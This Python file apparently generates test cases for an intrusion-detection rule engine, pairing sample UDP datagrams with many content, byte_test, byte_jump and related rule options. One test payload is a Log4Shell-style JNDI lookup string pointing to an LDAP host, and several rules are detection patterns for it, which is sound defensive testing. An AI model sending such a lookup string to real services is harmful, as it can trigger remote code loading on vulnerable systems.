# SPDX-License-Identifier: GPL-2.0-or-later
"""content and what modifies it, sizes, and the keywords that read numbers: on datagrams, where nothing but the bytes counts."""
import struct

from family import Family

PAYLOADS = {
    "plain": b"abcABCabc 0123456789 xyz",
    "exact": b"abc",
    "inside": b"xabcx",
    "upper": b"ABC",
    "mixed": b"aBcdEfGhI",
    "twice": b"abc abc",
    "late": b"0123456789abc",
    "lookup": b"x=${jndi:ldap://203.0.113.9:1389/a}",
    "odd": b'a"b;c\\d|e:f,g',
    "binary": b"\x00\x01\x02\xff\xfeabc\x00def\r\n",
    "repeat": b"aaaaaaaaab",
    "backtrack": b"abXabXabYcd",
    "dotted": b"one.two.three.example.org",
    "digits": b"len=12;val=0x1f;oct=017;neg=-5;end",
}


def payloads(family, **more):
    for name, data in PAYLOADS.items():
        family.flow(name, data, proto="udp", dport=7777, **more)


f = Family("content", "alert udp any any -> any any")
payloads(f)
f.ask('content:"abc";', 'content:"ABC"; nocase;', 'content:"abc"; nocase;', 'content:"aBc"; nocase;',
      'content:"a"; content:"b"; content:"c";',
      'content:!"abc";', 'content:!"abc"; nocase;', 'content:!"abc"; content:"x";', 'content:"abc"; content:!"x";',
      'content:"|61 62 63|";', 'content:"|616263|";', 'content:"a|62|c";', 'content:"|41 42|C"; nocase;', 'content:"|0d 0a|";',
      'content:"|00|";',
      'content:"|00 01 02 FF fe|";', 'content:"abc|00|def";', 'content:"a\\"b";', 'content:"b\\;c";', 'content:"c\\\\d";',
      'content:"d|7c|e";',
      'content:"e\\:f";', 'content:"f,g";', 'content:"|22|b|3b|c|5c|d|7c|e|3a|f";', 'content:"e:f";',
      'content:"${jndi:";', 'content:"|24 7b|jndi|3a|ldap|3a 2f 2f|"; nocase; fast_pattern;',
      'content:"JNDI"; nocase; content:"ldap";')
f.ask('content:"abc"; depth:3;', 'content:"abc"; depth:4;', 'content:"abc"; depth:5;', 'content:"abc"; offset:0;',
      'content:"abc"; offset:1;',
      'content:"abc"; offset:4;', 'content:"abc"; offset:10;', 'content:"abc"; offset:1; depth:3;',
      'content:"abc"; offset:1; depth:4;',
      'content:"abc"; offset:4; depth:3;', 'content:"abc"; offset:3; depth:100;', 'content:"abc"; depth:3; offset:4;',
      'content:!"abc"; depth:3;', 'content:!"abc"; offset:1;', 'content:!"abc"; offset:1; depth:3;',
      'content:!"abc"; offset:100;',
      'content:"abc"; nocase; depth:3;', 'content:"abc"; nocase; offset:3; depth:3;',
      'content:"abc"; startswith;', 'content:"abc"; nocase; startswith;', 'content:"abc"; startswith; nocase;',
      'content:!"abc"; startswith;',
      'content:"abc"; endswith;', 'content:"xyz"; endswith;', 'content:"abc"; endswith; nocase;', 'content:!"abc"; endswith;',
      'content:"abc"; startswith; endswith;',
      'content:!"abc"; startswith; endswith;', 'content:"|0d 0a|"; endswith;', 'content:"abc"; offset:1; endswith;',
      'content:"abc"; depth:7; endswith;',
      'content:"aab"; endswith;', 'content:"abc"; startswith; content:"abc"; endswith;', 'content:"abc"; depth:3; startswith;',
      'content:"a"; endswith; content:"abc";')
f.ask('content:"abc"; fast_pattern;', 'content:"abc"; fast_pattern:only;', 'content:"abcd"; content:"abc"; fast_pattern;',
      'content:"0123456789"; fast_pattern:2,4; content:"abc";', 'content:"abc"; rawbytes;', 'content:"a";', 'content:"ab";',
      'content:!"a";', 'content:!"zz";',
      'content:"abc"; content:"abc"; content:"abc";', 'content:"abc"; nocase; content:"ABC";',
      'content:"abc"; content:!"abc"; offset:1;',
      'content:!"abc"; fast_pattern;', 'content:"";', 'content:"abc"; depth:2;', 'content:"abc"; depth:0;',
      'content:"abc"; offset:70000;',
      'content:"abc", nocase;', 'content:abc;', 'content:"|6|";', 'content:"|zz|";', 'content:"abc"; nocase; nocase;',
      'content:"abc" ; nocase ;', 'content: "abc"; nocase;', "content:'abc';")

f = Family("relative", "alert udp any any -> any any")
payloads(f)
f.ask('content:"abc"; content:"abc"; distance:0;', 'content:"abc"; content:"abc"; distance:1;',
      'content:"abc"; content:"abc"; distance:2;',
      'content:"abc"; content:"abc"; within:3;', 'content:"abc"; content:"abc"; within:4;',
      'content:"abc"; content:"abc"; distance:1; within:3;',
      'content:"abc"; content:"abc"; distance:0; within:3;',
      'content:"abc"; nocase; content:"abc"; nocase; distance:0; within:3;',
      'content:"abc"; content:"bc"; distance:-2;', 'content:"abc"; content:"abc"; distance:-3;',
      'content:"abc"; content:"a"; distance:-3; within:1;',
      'content:"abc"; content:"c"; distance:-1; within:1;', 'content:"abc"; content:"xabc"; distance:-4;',
      'content:"abc"; content:"abc"; distance:-100;',
      'content:"a"; content:"b"; distance:0; content:"c"; distance:0;',
      'content:"a"; content:"b"; within:1; content:"c"; within:1;',
      'content:"ab"; content:"Y"; within:1; content:"cd"; within:2;',
      'content:"ab"; content:"X"; within:1; content:"Y"; within:3;',
      'content:"ab"; content:"X"; distance:0; content:"Y"; distance:2; within:1;',
      'content:"a"; content:"a"; distance:0; content:"b"; within:1;',
      'content:"aa"; content:"b"; distance:0; within:1;',
      'content:"aaa"; content:"aaa"; distance:0; content:"aaa"; distance:0; content:"b"; within:1;')
f.ask('content:"abc"; content:!"abc"; distance:0;', 'content:"abc"; content:!"x"; within:1;',
      'content:"abc"; content:!"A"; within:1;',
      'content:"abc"; content:!"a"; distance:1; within:1;', 'content:"abc"; content:!"abc"; distance:1; within:3;',
      'content:"ab"; content:!"X"; within:1;',
      'content:"ab"; content:!"X"; within:1; content:"cd"; distance:1;', 'content:"abc"; content:!"z"; within:100;',
      'content:"abc"; content:!"abc"; within:2;',
      'content:"abc"; content:!" "; distance:0; within:1; content:"A"; within:1;',
      'content:"a"; content:!"b"; within:1; content:"b"; distance:0;',
      'content:"a"; content:!"a"; within:1; content:"b"; within:1;', 'content:!"q"; content:"abc"; within:3;',
      'content:!"q"; content:"abc"; distance:1;',
      'content:"abc"; distance:0;', 'content:"abc"; within:3;', 'content:"abc"; distance:1;', 'content:"abc"; within:4;',
      'content:!"abc"; within:3;', 'content:!"abc"; distance:1;')
f.ask('content:"abc"; content:"0"; offset:5; content:"9"; distance:8;',
      'content:"one"; content:"."; within:1; content:"two"; within:3; content:".org"; distance:0; endswith;',
      'content:"abc"; content:"xyz"; distance:0; endswith;', 'content:"abc"; content:"abc"; distance:0; startswith;',
      'content:"abc"; content:"abc"; within:2;',
      'content:"abc"; content:"abc"; offset:1; distance:0;', 'content:"abc"; content:"abc"; depth:3; within:3;',
      'content:"jndi"; content:"://"; within:8; content:"/a"; distance:5; within:30;',
      'content:"${"; content:"}"; distance:0; content:!"|0a|"; within:10;', 'content:"${"; content:!"}"; within:20;',
      'content:"${"; content:!"}"; within:40;',
      'content:"b"; content:"a"; distance:-2; within:1;', 'content:"e"; content:"."; distance:-10; within:10;')

f = Family("at", "alert udp any any -> any any")
payloads(f)
f.ask('content:"abc"; isdataat:1,relative;', 'content:"abc"; isdataat:!1,relative;', 'content:"abc"; isdataat:0,relative;',
      'content:"abc"; isdataat:!0,relative;',
      'content:"abc"; isdataat:4,relative;', 'content:"abc"; isdataat:!4,relative;', 'content:"abc"; isdataat:21,relative;',
      'content:"abc"; isdataat:20,relative;',
      'isdataat:3;', 'isdataat:!3;', 'isdataat:4;', 'isdataat:!4;', 'isdataat:2;', 'isdataat:!2;', 'isdataat:0;',
      'isdataat:!0;', 'isdataat:10,rawbytes;', 'isdataat:!10,relative;', 'isdataat:2,relative;',
      'content:"abc"; isdataat:!1,relative; content:"abc";', 'content:"ab"; isdataat:!4,relative;',
      'content:"ab"; isdataat:3,relative,rawbytes;',
      'content:"abc"; nocase; isdataat:!1,relative;', 'content:"abc"; content:"abc"; distance:0; isdataat:!1,relative;',
      'content:"abc"; isdataat:5;',
      'isdataat:70000;', 'isdataat:-1,relative;', 'content:"abc"; isdataat: 1 , relative;')
f.ask('dsize:3;', 'dsize:!3;', 'dsize:>3;', 'dsize:<5;', 'dsize:3<>8;', 'dsize:2<>5;', 'dsize:>=5;', 'dsize:<=5;', 'dsize:0;',
      'dsize:>24;', 'dsize:24; content:"abc";',
      'dsize:5; content:"abc"; offset:1;', 'dsize: >3; content:"abc";', 'dsize:8<>3;', 'dsize:5<>5;', 'dsize:3<>4;')

# Numbers. Each datagram: what it is called, a marker, and the number in some form.
NUMBERS = {
    "be1": b"N\x05hello", "be2": b"N\x00\x05hello", "be4": b"N\x00\x00\x00\x05hello", "le2": b"N\x05\x00hello",
          "le4": b"N\x05\x00\x00\x00hello",
    "big": b"N\xff\xff\xff\xffhello", "high": b"N\x80\x00\x00\x01hello", "d1": b"N5hello", "d2": b"N12 hello",
          "d5": b"N00012hello", "hex": b"N0x1fhello", "hexbare": b"N1fhello",
    "oct": b"N017hello", "neg": b"N-5hello", "word": b"Nxyzhello", "short": b"N\x05", "empty": b"N",
          "jump": b"N\x03abcZabcdefghij", "jumps": b"\x02\x01xN\x02yyZ\x01!Z",
    "ten": b"N\x00\x0a0123456789Z", "mask": b"N\xf5\x0fhello", "align": b"N\x01abcdefgZhijk",
}
f = Family("byte_test", "alert udp any any -> any any")
for name, data in NUMBERS.items():
    f.flow(name, data, proto="udp")
f.ask('byte_test:1,=,5,1;', 'byte_test:1,>,5,1;', 'byte_test:1,<,5,1;', 'byte_test:1,>=,5,1;', 'byte_test:1,<=,5,1;',
      'byte_test:1,!=,5,1;', 'byte_test:1,!=,5,1; content:"N";',
      'byte_test:1,&,1,1;', 'byte_test:1,^,1,1;', 'byte_test:1,!&,1,1;', 'byte_test:1,!>,5,1;', 'byte_test:1,!<,5,1;',
      'byte_test:2,=,5,1;', 'byte_test:2,=,5,1,big;', 'byte_test:2,=,5,1,little;',
      'byte_test:4,=,5,1;', 'byte_test:4,=,5,1,little;', 'byte_test:4,>,2147483648,1;', 'byte_test:4,=,4294967295,1;',
      'byte_test:4,=,0xffffffff,1;', 'byte_test:3,=,5,2;', 'byte_test:8,>,1,1;',
      'content:"N"; byte_test:1,=,5,0,relative;', 'content:"N"; byte_test:2,=,5,0,relative;',
      'content:"N"; byte_test:2,=,5,0,relative,little;', 'content:"N"; byte_test:1,=,78,-1,relative;',
      'content:"N"; byte_test:1,>,0,-2,relative;', 'content:"N"; byte_test:1,>=,0,6,relative;',
      'content:"N"; byte_test:1,>=,0,5,relative;', 'byte_test:1,>=,0,0;', 'byte_test:1,>=,0,5;', 'byte_test:1,>=,0,6;',
      'byte_test:1,=,5,1,relative;',
      'content:"N"; byte_test:1,=,5,0,relative,string,dec;', 'content:"N"; byte_test:2,=,12,0,relative,string,dec;',
      'content:"N"; byte_test:5,=,12,0,relative,string,dec;',
      'content:"N"; byte_test:3,=,12,0,string,dec,relative;', 'content:"N"; byte_test:4,=,31,0,string,hex,relative;',
      'content:"N"; byte_test:2,=,31,0,string,hex,relative;', 'content:"N"; byte_test:4,=,0x1f,0,string,hex,relative;',
      'content:"N"; byte_test:3,=,15,0,string,oct,relative;', 'content:"N"; byte_test:2,=,5,0,string,dec,relative;',
      'content:"N"; byte_test:2,>,5,0,string,dec,relative;', 'content:"N"; byte_test:3,>,0,0,string,dec,relative;',
      'content:"N"; byte_test:10,>,0,0,string,dec,relative;', 'content:"N"; byte_test:1,=,5,0,string,relative;',
      'byte_test:2,=,0xf5,1,bitmask 0xff00;', 'byte_test:2,=,5,1,bitmask 0x0f00;', 'byte_test:2,=,15,1,bitmask 0x00ff;',
      'byte_test:1,=,15,1,bitmask 0xf0;',
      'byte_test:2,&,0x0f,1;', 'byte_test:1,!=,5,0,relative; content:"N";', 'content:!"Q"; byte_test:1,=,5,1;',
      'byte_test:9,=,5,1;', 'byte_test:1,~,5,1;', 'byte_test:1,=,5;', 'byte_test:1, =, 5, 1;',
      'byte_test:1,=,5,1,dce;', 'byte_test:1,=,5,1,bogus;', 'content:"hello"; byte_test:1,=,5,-6,relative;',
      'content:"Z"; byte_test:1,=,1,0,relative;', 'content:"Z"; byte_test:1,=,33,0,relative;')

f = Family("byte_jump", "alert udp any any -> any any")
for name, data in NUMBERS.items():
    f.flow(name, data, proto="udp")
f.ask('byte_jump:1,1; content:"Z"; distance:0;', 'byte_jump:1,1; content:"Z"; within:1;',
      'byte_jump:1,1; isdataat:!1,relative;', 'byte_jump:1,1; isdataat:1,relative;',
      'content:"N"; byte_jump:1,0,relative; content:"Z"; within:1;',
      'content:"N"; byte_jump:1,0,relative; content:"Z"; distance:0;',
      'content:"N"; byte_jump:1,0,relative; isdataat:!1,relative;',
      'content:"N"; byte_jump:2,0,relative; content:"Z"; within:1;',
      'content:"N"; byte_jump:2,0,relative,little; isdataat:!1,relative;',
      'content:"N"; byte_jump:4,0,relative; isdataat:!1,relative;',
      'content:"N"; byte_jump:4,0,relative,little; isdataat:!1,relative;',
      'content:"N"; byte_jump:1,0,relative,string,dec; isdataat:!1,relative;',
      'content:"N"; byte_jump:2,0,relative,string,dec; content:"h";',
      'content:"N"; byte_jump:5,0,relative,string,dec; isdataat:!1,relative;',
      'content:"N"; byte_jump:3,0,relative,string,oct;', 'content:"N"; byte_jump:4,0,relative,string,hex;',
      'content:"N"; byte_jump:1,0,relative,multiplier 2; isdataat:!1,relative;',
      'content:"N"; byte_jump:1,0,relative,multiplier 2; content:"g"; distance:0;',
      'content:"N"; byte_jump:1,0,relative,align; content:"Z"; within:1;',
      'content:"N"; byte_jump:1,0,relative,align; content:"d"; within:1;',
      'content:"N"; byte_jump:1,0,relative,post_offset 1; content:"a"; within:1;',
      'content:"N"; byte_jump:1,0,relative,post_offset -1; content:"o"; within:1;',
      'content:"N"; byte_jump:1,0,relative,post_offset -1; content:"c"; within:1;',
      'content:"N"; byte_jump:1,0,relative,from_beginning; content:"b"; within:1;',
      'content:"N"; byte_jump:1,0,relative,from_beginning; content:"h"; distance:0;',
      'byte_jump:1,1,from_beginning; content:"o"; within:2;', 'byte_jump:1,1,from_end; content:"h";',
      'content:"N"; byte_jump:1,0,relative,from_end; content:"hello";',
      'byte_jump:0,0,from_end,post_offset -5; content:"hello"; within:5;',
      'byte_jump:0,0,from_end,post_offset -1; content:"Z"; within:1;', 'byte_jump:2,1,bitmask 0x0f00; isdataat:!1,relative;',
      'byte_jump:1,1,bitmask 0x0f; isdataat:!1,relative;', 'byte_jump:1,0; byte_jump:1,0,relative;',
      'content:"N"; byte_jump:1,0,relative; byte_jump:1,1,relative; content:"Z"; within:1;',
      'content:"N"; byte_jump:1,-1,relative; content:"Z";', 'byte_jump:1,100;', 'byte_jump:1,1,relative;', 'byte_jump:9,1;',
      'byte_jump:1,1,bogus;',
      'content:"N"; byte_jump:1,0,relative; content:!"Z"; within:1;',
      'content:"N"; byte_jump:1,0,relative; byte_test:1,=,90,0,relative;', 'byte_jump:1,1,multiplier 1000;', 'byte_jump:4,1;',
      'byte_jump:2,1;')

f = Family("byte_extract", "alert udp any any -> any any")
for name, data in NUMBERS.items():
    f.flow(name, data, proto="udp")
f.ask('byte_extract:1,1,n; content:"Z"; offset:n;', 'byte_extract:1,1,n; content:"hello"; depth:n;',
      'byte_extract:1,1,n; content:"hello"; offset:2; depth:n;', 'byte_extract:1,1,n; content:"hello"; within:n;',
      'content:"N"; byte_extract:1,0,n,relative; content:"Z"; distance:n; within:1;',
      'content:"N"; byte_extract:1,0,n,relative; content:"Z"; distance:n;',
      'content:"N"; byte_extract:1,0,n,relative; content:"hello"; within:n;',
      'content:"N"; byte_extract:1,0,n,relative; isdataat:n,relative;',
      'content:"N"; byte_extract:1,0,n,relative; isdataat:!n,relative;',
      'content:"N"; byte_extract:1,0,n,relative; byte_test:1,=,n,0;',
      'byte_extract:1,1,n; byte_test:1,=,n,1;', 'byte_extract:1,1,n; byte_test:1,>,n,2;',
      'byte_extract:1,1,n; byte_test:1,>=,0,n;', 'byte_extract:1,1,n; byte_jump:1,n; isdataat:1,relative;',
      'byte_extract:2,1,n; content:"Z"; offset:n;', 'byte_extract:2,1,n,little; isdataat:n;',
      'byte_extract:2,1,n,big; isdataat:n;', 'byte_extract:1,1,n,multiplier 2; isdataat:n;',
      'byte_extract:1,1,n,multiplier 2; isdataat:!n;',
      'byte_extract:1,1,n,align 4; isdataat:n;', 'byte_extract:1,1,n,align 2; isdataat:!n;',
      'byte_extract:1,1,n,string,dec; isdataat:n;', 'byte_extract:2,1,n,string,dec; isdataat:!n;',
      'byte_extract:5,1,n,string,dec; isdataat:!n;',
      'byte_extract:4,1,n,string,hex; isdataat:!n;', 'byte_extract:3,1,n,string,oct; isdataat:!n;',
      'byte_extract:1,1,a; byte_extract:1,2,b; byte_test:1,<,b,1;', 'byte_extract:1,1,a; byte_extract:1,a,b; isdataat:b;',
      'byte_extract:1,0,n; content:"N"; depth:n;',
      'content:"N"; byte_extract:1,0,n,relative; content:!"Z"; distance:n; within:1;',
      'content:"N"; byte_extract:1,-1,n,relative; isdataat:!n;', 'byte_extract:1,100,n; isdataat:n;', 'byte_extract:1,1,n;',
      'content:"Z"; offset:n;',
      'byte_extract:1,1,n; byte_extract:1,2,n; isdataat:n;', 'byte_extract:9,1,n; isdataat:n;',
      'byte_extract:1,1,n,bogus; isdataat:n;', 'byte_extract:4,1,n; content:"hello"; offset:n;',
      'content:"N"; byte_extract:1,0,n,relative; pcre:"/hello/R"; isdataat:!1,relative;')

f = Family("byte_math", "alert udp any any -> any any")
for name, data in NUMBERS.items():
    f.flow(name, data, proto="udp")
f.ask('content:"N";')
f.ask('byte_math:bytes 1,offset 1,oper +,rvalue 1,result r; isdataat:!r;',
      'byte_math:bytes 1,offset 1,oper -,rvalue 1,result r; isdataat:r;',
      'byte_math:bytes 1,offset 0,oper *,rvalue 2,result r,relative; isdataat:r;')

# Backtracking: the first place that a content is found at is not the one that the rest holds for.
f = Family("backtrack", "alert udp any any -> any any")
for name, data in (("third", b"ab1 ab2 ab3!"), ("none", b"ab1 ab2 ab4"), ("overlap", b"aaaab"),
      ("far", b"key=x; key=y; key=z; end"), ("nested", b"a1b2a3b4c5"), ("many", b"ab" * 300 + b"cd"),
                   ("lengths", b"\x02xx\x03yyy\x01Z"), ("tags", b"<a><b></b></a><c id=1>")):
    f.flow(name, data, proto="udp")
f.ask('content:"ab"; content:"3!"; within:2;', 'content:"ab"; content:!"1"; within:1; content:"!"; distance:1; within:1;',
      'content:"a"; content:"a"; within:1; content:"b"; within:1;',
      'content:"key="; content:"z"; within:1; content:"end"; distance:0;',
      'content:"key="; content:"y"; within:1; content:"z"; distance:0; content:"end"; within:5;',
      'content:"a"; content:"b"; distance:1; within:1; content:"c"; distance:1; within:1;',
      'content:"ab"; content:"cd"; within:2;', 'content:"ab"; pcre:"/^3/R";', 'content:"ab"; pcre:"/^cd/R";',
      'content:"ab"; isdataat:!3,relative;', 'content:"ab"; isdataat:2,relative; content:"cd"; within:2;',
      'content:"ab"; byte_test:1,=,3,0,relative,string,dec;',
      'content:"x"; byte_test:1,=,3,0,relative;', 'content:"y"; byte_jump:1,0,relative; content:"Z";',
      'content:"<"; content:"c"; within:1; content:">"; distance:0; isdataat:!1,relative;',
      'pcre:"/ab/"; content:"3"; within:1;', 'pcre:"/k/"; content:"ey=z"; within:4;',
      'pcre:"/a./"; pcre:"/^b/R"; content:"c"; distance:1; within:1;',
      'content:"a"; pcre:"/\\d/R"; content:"b"; within:1; pcre:"/^\\d/R"; content:"c"; within:1;',
      'content:"a"; content:!"a"; within:2; content:"b"; distance:0;', 'content:"ab"; content:!"ab"; within:4;',
      'content:"ab"; content:!"ab"; distance:0; content:"cd";', 'content:"key="; byte_test:1,=,122,0,relative;')
